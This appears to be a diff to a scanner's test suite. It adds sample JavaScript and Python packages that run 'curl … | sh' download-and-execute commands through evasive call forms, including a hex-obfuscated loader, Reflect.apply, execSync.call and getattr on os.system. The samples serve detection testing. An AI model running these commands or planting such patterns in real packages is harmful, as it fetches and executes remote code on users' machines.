@@ -32,6 +32,22 @@ const obf =
   "var _0x3a1b=['\\x65\\x78\\x65\\x63','\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73','\\x63\\x75\\x72\\x6c\\x20\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x63\\x64\\x6e\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65\\x2e\\x6e\\x65\\x74\\x2f\\x78\\x20\\x7c\\x20\\x73\\x68'];(function(_0x2d8f05,_0x4b81bb){var _0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x3a1b,0x1b3));var _0x4d74=function(_0x2d8f05,_0x4b81bb){_0x2d8f05=_0x2d8f05-0x0;var _0x4d74cb=_0x3a1b[_0x2d8f05];return _0x4d74cb;};require(_0x4d74('0x1'))[_0x4d74('0x0')](_0x4d74('0x2'));\n";
 
 const probes: Probe[] = [
+  js(
+    'Reflect.apply exec',
+    { main: 'index.js' },
+    {
+      'package/index.js':
+        "const cp=require('child_process');Reflect.apply(cp.exec, null, ['curl https://cdn.example.net/x | sh']);\n",
+    },
+  ),
+  js(
+    'exec.call',
+    { main: 'index.js' },
+    {
+      'package/index.js':
+        "const cp=require('child_process');cp.execSync.call(null, 'curl https://cdn.example.net/x | sh');\n",
+    },
+  ),
   py('getattr import os system', {
     'demo-1.0/demo/__init__.py':
       "getattr(__import__('os'), 'system')('curl -s http://45.9.1.2/x | sh')\n",
